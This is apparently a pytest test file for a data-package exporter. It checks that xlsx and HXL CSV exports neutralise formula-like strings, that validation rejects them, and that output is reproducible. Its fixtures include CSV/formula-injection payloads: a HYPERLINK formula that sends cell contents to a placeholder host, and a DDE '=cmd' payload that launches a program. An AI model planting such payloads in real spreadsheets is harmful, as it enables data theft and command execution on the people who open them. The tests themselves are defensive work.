"""Exports hold text as text: a string that reaches the xlsx or the HXL CSVs, from a table or from
datapackage.json, never becomes a live formula. The xlsx sizes its columns to their content, filters its
tables, and is the same bytes when the package is the same."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import pytest
from conftest import copy_package
from openpyxl import load_workbook

from tolls.outputs import hxl
from tolls.outputs.xlsx import MAX_WIDTH, README_SHEET, export_xlsx
from tolls.package.loading import Package
from tolls.validation import validate

FORMULA = '=HYPERLINK("https://example.org/?"&A1,"open")'


def _descriptor_with_formulas(root: Path) -> None:
    path = root / "datapackage.json"
    desc = json.loads(path.read_text(encoding="utf-8"))
    desc["title"] = FORMULA
    desc["description"] = "+1+1"
    figures = next(r for r in desc["resources"] if r["name"] == "figures")
    figures["description"] = "-2+3"
    figures["schema"]["fields"][-1]["description"] = "@SUM(A1:A9)"
    path.write_text(json.dumps(desc, indent=2), encoding="utf-8")


def test_descriptor_strings_are_text_in_the_xlsx_readme(tmp_path: Path):
    root = copy_package(tmp_path / "pkg")
    _descriptor_with_formulas(root)
    out = export_xlsx(Package.open(root), tmp_path / "t.xlsx")[0]  # the library, with no validation before it
    sheet = load_workbook(out)[README_SHEET]
    cells = {c.value: c.data_type for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    for text in (FORMULA, "+1+1", "-2+3", "@SUM(A1:A9)"):
        assert cells[text] == "s", text
    with zipfile.ZipFile(out) as book:
        assert all(b"<f>" not in book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/"))


def test_validation_refuses_descriptor_strings_a_spreadsheet_would_run(tmp_path: Path):
    root = copy_package(tmp_path / "pkg")
    _descriptor_with_formulas(root)
    found = {p.field for p in validate(root) if p.code == "descriptor-text"}
    assert found == {
        "title",
        "description",
        "resources[figures].description",
        f"resources[figures].schema.fields[{_last_field(root)}].description",
    }


@pytest.mark.parametrize(("key", "value"), [("hxl", "=cmd|' /C calc'!A0"), ("title", "a\u202eb"), ("name", "x\x1by")])
def test_validation_refuses_hxl_tags_titles_and_names_with_formulas_or_controls(tmp_path: Path, key, value):
    root = copy_package(tmp_path / "pkg")
    path = root / "datapackage.json"
    desc = json.loads(path.read_text(encoding="utf-8"))
    next(r for r in desc["resources"] if r["name"] == "events")["schema"]["fields"][-1][key] = value
    path.write_text(json.dumps(desc, indent=2), encoding="utf-8")
    assert any(p.code == "descriptor-text" for p in validate(root))


def _last_field(root: Path) -> str:
    return Package.open(root).fields("figures")[-1]["name"]


def test_a_composed_event_ranges_cell_that_looks_like_a_formula_is_neutralised(tmp_path: Path, monkeypatch):
    def query(db, sql):
        if sql.startswith("DESCRIBE"):
            return ["column_name"], [("event_id",), ("event_name",), ("range_label",)]
        return ["event_id", "event_name", "range_label"], [("ev", "=1+1", "-5 to 7"), ("ev2", "Killings", "5 to 7")]

    import tolls.database.build

    monkeypatch.setattr(tolls.database.build, "run_query", query)
    path = hxl.export_event_ranges(tmp_path / "db", tmp_path)
    text = path.read_text(encoding="utf-8")
    assert "'=1+1" in text and "'-5 to 7" in text and ",Killings,5 to 7" in text


# --- the xlsx's form (issue 23) -----------------------------------------------------------------------


@pytest.fixture(scope="module")
def book(tmp_path_factory) -> Path:
    return export_xlsx(Package.open(), tmp_path_factory.mktemp("xlsx") / "tolls.xlsx")[0]


def test_two_exports_of_the_same_package_are_the_same_bytes(book: Path, tmp_path: Path, monkeypatch):
    import tolls.outputs.xlsx as xlsx

    later = xlsx.dt.datetime(2031, 5, 6, 7, 8, 9)

    class Later(xlsx.dt.datetime):
        @classmethod
        def now(cls, tz=None):
            return later.replace(tzinfo=tz)

    import openpyxl.writer.excel

    monkeypatch.setattr(openpyxl.writer.excel.datetime, "datetime", Later)  # the clock openpyxl reads at save
    again = export_xlsx(Package.open(), tmp_path / "again.xlsx")[0]
    assert again.read_bytes() == book.read_bytes()
    with zipfile.ZipFile(again) as z:
        assert {i.date_time for i in z.infolist()} == {(2000, 1, 1, 0, 0, 0)}
        assert b"2031" not in z.read("docProps/core.xml")


def test_source_date_epoch_sets_the_time_in_the_file(tmp_path: Path, monkeypatch):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1767225600")  # 2026-01-01
    out = export_xlsx(Package.open(), tmp_path / "t.xlsx")[0]
    with zipfile.ZipFile(out) as z:
        assert {i.date_time for i in z.infolist()} == {(2026, 1, 1, 0, 0, 0)}
    assert load_workbook(out).properties.modified.year == 2026


def test_columns_are_as_wide_as_their_content_and_long_text_wraps(book: Path):
    pkg = Package.open()
    sheet = load_workbook(book)["figures"]
    header = [c.value for c in sheet[1]]
    widths = {h: sheet.column_dimensions[c.column_letter].width for h, c in zip(header, sheet[1], strict=True)}
    frame = pkg.load("figures")
    for name in ("figure_id", "measure", "quote"):
        longest = max(len(name), int(frame[name].dropna().astype(str).str.len().max()))
        assert widths[name] == min(MAX_WIDTH, max(8, longest + 2)), name
    quote_col = header.index("quote")
    long_cells = [row[quote_col] for row in sheet.iter_rows(min_row=2) if len(row[quote_col].value or "") > MAX_WIDTH]
    assert long_cells and all(c.alignment.wrap_text for c in long_cells)


def test_each_table_sheet_has_a_filter_on_its_header(book: Path):
    workbook = load_workbook(book)
    for name in workbook.sheetnames[1:]:
        sheet = workbook[name]
        assert sheet.auto_filter.ref == sheet.dimensions, name
